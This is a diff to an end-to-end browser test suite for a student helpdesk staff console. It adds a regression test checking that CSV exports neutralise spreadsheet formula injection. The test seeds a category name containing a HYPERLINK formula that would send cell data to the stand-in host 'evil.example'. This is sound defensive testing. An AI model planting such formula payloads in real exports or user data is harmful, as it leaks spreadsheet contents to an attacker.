@@ -1,6 +1,9 @@
 // Staff journeys in real Chromium against the built console served by a real API: work a ticket
 // from the queue to the student's rating (given in the built portal) on the dashboard, and settle
 // an incident in one move.
+import { TicketStatus } from '@studentdesk/domain';
+import { createCategory, JOURNEY_PEOPLE, PASSWORD } from '@studentdesk/testing';
+import { watchSubscriptions } from '@studentdesk/testing/browser';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { Page } from 'playwright-core';
 import { startStack, type Person, type Stack } from './stack.js';
@@ -31,6 +34,9 @@ const TICKET = /* GraphQL */ `
   }
 `;
 
+/** A category name a spreadsheet would run: it must reach a manager's CSV as text. */
+const FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Printing")';
+
 describe('the staff console', () => {
   let stack: Stack;
   const report = async (student: Person, categoryId: string, title: string, description: string) =>
@@ -41,7 +47,10 @@ describe('the staff console', () => {
   };
 
   beforeAll(async () => {
-    stack = await startStack();
+    stack = await startStack(async (prisma) => {
+      const it = await prisma.department.findFirstOrThrow({ where: { name: 'IT' } });
+      await createCategory(prisma, it.id, FORMULA_NAME);
+    });
   });
   afterAll(() => stack?.stop());
 
@@ -49,8 +58,8 @@ describe('the staff console', () => {
     const context = await stack.browser.newContext();
     const page = await context.newPage();
     await page.goto(`${stack.origin}/console/`);
-    await page.getByLabel('Email').fill('amara@e2e.studentdesk');
-    await page.getByLabel('Password').fill('studentdesk-e2e');
+    await page.getByLabel('Email').fill(JOURNEY_PEOPLE.amara.email);
+    await page.getByLabel('Password').fill(PASSWORD);
     await page.getByRole('button', { name: 'Sign in' }).click();
     await page.getByRole('alert').filter({ hasText: 'The console is for staff' }).waitFor();
     await expectAccessible(page, 'sign-in');
@@ -66,12 +75,14 @@ describe('the staff console', () => {
       'It says my password expired and the reset link fails.',
     );
     const page = await stack.signedInPage('staff');
+    const subscriptions = watchSubscriptions(page);
     await expectAccessible(page, 'home');
 
     await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Queue' }).click();
     await page.getByRole('link', { name: 'Unassigned' }).click();
     await page.getByRole('link', { name: /Cannot sign in to the LMS/ }).waitFor();
     // A ticket reported while the queue is open appears without a reload.
+    await subscriptions.untilSent('QueueChanged');
     await report('ben', stack.school.categories['Login & accounts']!, 'Locked out after three tries', 'The portal locked my account.');
     await page.getByRole('link', { name: /Locked out after three tries/ }).waitFor({ timeout: 10_000 });
     await expectAccessible(page, 'queue');
@@ -115,7 +126,7 @@ describe('the staff console', () => {
     await stack.screenshot(page, '04-resolve-with-prediction');
     await dialog.getByRole('button', { name: 'Resolve' }).click();
     await page.getByRole('status').filter({ hasText: 'Resolved.' }).waitFor();
-    expect((await stack.gqlAs('staff', TICKET, { id: lms.id })).ticket.status).toBe('RESOLVED');
+    expect((await stack.gqlAs('staff', TICKET, { id: lms.id })).ticket.status).toBe(TicketStatus.RESOLVED);
 
     // The student rates it in the portal, signed in in a browser of her own; the open ticket shows it live.
     const portal = await stack.signedInPage('amara', 'portal');
@@ -194,7 +205,7 @@ describe('the staff console', () => {
     await page.getByRole('status').filter({ hasText: 'Incident resolved' }).waitFor();
     await expect.poll(async () => page.getByRole('row').filter({ hasText: 'Resolved' }).count()).toBe(2);
     for (const ticket of [first, second]) {
-      expect((await stack.gqlAs('staff', TICKET, { id: ticket.id })).ticket.status).toBe('RESOLVED');
+      expect((await stack.gqlAs('staff', TICKET, { id: ticket.id })).ticket.status).toBe(TicketStatus.RESOLVED);
     }
     expect((await stack.gqlAs('ben', '{ activeIncidents { title } }')).activeIncidents).toEqual([]);
     await stack.screenshot(page, '10-incident-resolved');
@@ -221,6 +232,18 @@ describe('the staff console', () => {
     expect(csv.split('\r\n')[0]).toBe('Week,Department,CSAT %,Ratings');
     expect(csv).toContain(',IT,100,1');
     await stack.screenshot(page, '12-insights-table');
+
+    // A name that would be a formula is exported as text.
+    await report('chloe', stack.school.categories[FORMULA_NAME]!, 'Printer eats pages', 'On the second floor.');
+    await page.reload();
+    const volume = page.getByRole('region', { name: 'Volume by category' });
+    await volume.getByRole('button', { name: 'Show table' }).click();
+    await volume.getByRole('cell', { name: FORMULA_NAME }).waitFor();
+    const volumeDownload = page.waitForEvent('download');
+    await volume.getByRole('button', { name: 'Export CSV' }).click();
+    const volumeCsv = await streamText(await (await volumeDownload).createReadStream());
+    expect(volumeCsv).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Printing"")",1\r\n`);
+    expect(volumeCsv).not.toMatch(/(^|\r\n)"?=HYPERLINK/);
 
     for (const [link, name] of [
       ['Leaderboard', 'leaderboard'],
